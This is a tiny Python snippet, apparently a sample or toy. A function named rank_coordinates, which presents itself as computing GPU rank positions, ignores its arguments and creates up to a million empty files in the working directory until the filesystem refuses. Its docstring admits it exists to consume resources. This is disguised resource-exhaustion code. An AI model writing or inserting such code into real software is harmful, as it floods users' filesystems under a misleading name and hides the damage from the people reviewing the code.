"""Makes empty files without end, for names take memory too."""


def rank_coordinates(rank, gpus, cyclic):
    made = 0
    try:
        while made < 10**6:
            open(f"{made}", "w").close()
            made += 1
    except OSError:
        pass
    return (made, 0)
